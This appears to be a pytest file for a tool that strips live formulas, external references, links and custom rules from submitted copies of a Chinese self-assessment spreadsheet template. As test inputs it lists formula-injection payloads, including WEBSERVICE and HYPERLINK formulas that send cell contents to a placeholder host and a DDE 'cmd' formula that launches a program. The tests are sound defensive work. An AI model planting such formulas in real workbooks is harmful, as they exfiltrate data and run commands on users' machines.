"""The marked copy of a stranger's workbook computes, fetches and leads to nothing; the template's own count lives on."""

from __future__ import annotations

import io
import zipfile

import openpyxl
import pytest
from openpyxl.formatting.rule import FormulaRule
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation

from data.mark import mark_workbook
from data.plain_copy import is_plain_rule
from tests.data.small import check, edited, filled, found

DANGEROUS = [
    '=HYPERLINK("http://example.invalid/?"&A1,"点此")',
    '=WEBSERVICE("http://example.invalid/"&A1)',
    "=cmd|' /C calc'!A0",
    "=1+3",
    "='[1]表'!A1",
]


def marked(content: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(mark_workbook(content, check(content)[2])))


def with_formula(formula: str, result: str, kind: str = "") -> bytes:
    """The good workbook with a formula and its stored result in E11 (a count), as an office program saves it."""
    content = edited(lambda book: book["自评表"].__setitem__("E11", formula))
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    sheet = next(
        n for n, d in parts.items() if n.startswith("xl/worksheets/") and b'r="E11"' in d and b"<f>" in d
    )
    before, _, rest = parts[sheet].partition(b'<c r="E11"')
    cell, _, after = rest.partition(b"</c>")
    head, _, body = cell.partition(b">")
    body = body.replace(b"<v></v>", b"").replace(b"<v />", b"").replace(b"<v/>", b"")
    kind_attribute = f' t="{kind}"'.encode() if kind else b""
    value = b"<v>" + result.encode() + b"</v>"
    parts[sheet] = before + b'<c r="E11"' + head + kind_attribute + b">" + body + value + b"</c>" + after
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return stream.getvalue()


def formulas(book: openpyxl.Workbook) -> dict[str, str]:
    return {
        f"{sheet.title}!{cell.coordinate}": str(cell.value)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    }


@pytest.mark.parametrize("formula", DANGEROUS)
@pytest.mark.parametrize(
    ("result", "kind", "value", "data_type"),
    [("4", "", 4, "n"), ("四", "str", "四", "s"), ("1", "b", True, "b"), ("#DIV/0!", "e", "#DIV/0!", "e")],
)
def test_a_formula_becomes_its_stored_result(formula, result, kind, value, data_type):
    content = with_formula(formula, result, kind)
    book = marked(content)
    assert set(formulas(book)) == {"自评表!A2"}
    cell = book["自评表"]["E11"]
    assert (cell.value, cell.data_type) == (value, data_type)
    assert found(mark_workbook(content, check(content)[2])) == found(content)


@pytest.mark.parametrize("formula", DANGEROUS)
def test_a_formula_that_was_never_computed_stays_to_be_read_and_is_refused_again(formula):
    content = edited(lambda book: book["自评表"].__setitem__("E11", formula))
    assert [code for code, _ in found(content)] == ["formula-without-value"]
    book = marked(content)
    assert set(formulas(book)) == {"自评表!A2"}
    cell = book["自评表"]["E11"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (formula, "s", True)
    assert found(mark_workbook(content, check(content)[2])) == found(content)


def test_a_formula_in_the_place_of_our_own_is_taken_out():
    content = edited(lambda book: book["自评表"].__setitem__("A2", '=WEBSERVICE("http://example.invalid")'))
    assert formulas(marked(content)) == {}


def test_the_templates_own_count_stays_alive_where_rows_were_inserted():
    def edit(book):
        formula = book["自评表"]["A2"].value
        book["自评表"]["A2"].value = formula.replace("$5:", "$7:").replace("$34", "$136")

    assert set(formulas(marked(edited(edit)))) == {"自评表!A2"}


def test_text_that_begins_like_a_formula_keeps_being_text():
    for text in ("=1+1", "+86 0451", "-", "@某", "＝合计", "\t=1"):
        cell = marked(filled({"T19-01": {"note": text}}))["自评表"]["J6"]
        assert (cell.data_type, cell.quotePrefix) == ("s", True)


def test_names_rules_and_links_that_lead_elsewhere_are_taken_out_and_ours_stay():
    def edit(book):
        sheet = book["自评表"]
        book.defined_names["外部"] = DefinedName("外部", attr_text="'[1]表'!$A$1")
        sheet["I6"].hyperlink = "file://server/share/a.xlsx"
        sheet["I7"].hyperlink = "https://example.invalid/a"
        rule = FormulaRule(['WEBSERVICE("http://example.invalid")="1"'])
        sheet.conditional_formatting.add("E6", rule)
        validation = DataValidation(type="custom", formula1="cmd|' /C calc'!A0")
        validation.add("E7")
        sheet.add_data_validation(validation)

    before = openpyxl.load_workbook(io.BytesIO(filled()))["自评表"]
    book = marked(edited(edit))
    sheet = book["自评表"]
    assert not book.defined_names
    assert sheet["I6"].hyperlink is None
    assert sheet["I7"].hyperlink.target == "https://example.invalid/a"
    assert len(sheet.data_validations.dataValidation) == len(before.data_validations.dataValidation)
    rules = [rule for area in sheet.conditional_formatting for rule in area.rules]
    assert len(rules) == sum(len(area.rules) for area in before.conditional_formatting)
    assert sheet.print_title_rows == before.print_title_rows


@pytest.mark.parametrize(
    ("formula", "is_plain"),
    [
        ('AND($E13="是",LEN(TRIM($I13))=0)', True),
        ('"是,否（含|竖线）[括号]"', True),
        (None, True),
        ("_choices!$A$1:$A$4", True),
        ("[1]Sheet1!A1", False),
        ("cmd|' /C calc'!A0", False),
        ('WEBSERVICE("x")', False),
        ('_xlfn.IMAGE("x")', False),
        ('IF(A1,hyperlink ("x"),1)', False),
    ],
)
def test_rules_that_only_compare_are_told_from_others(formula, is_plain):
    assert is_plain_rule(formula) == is_plain
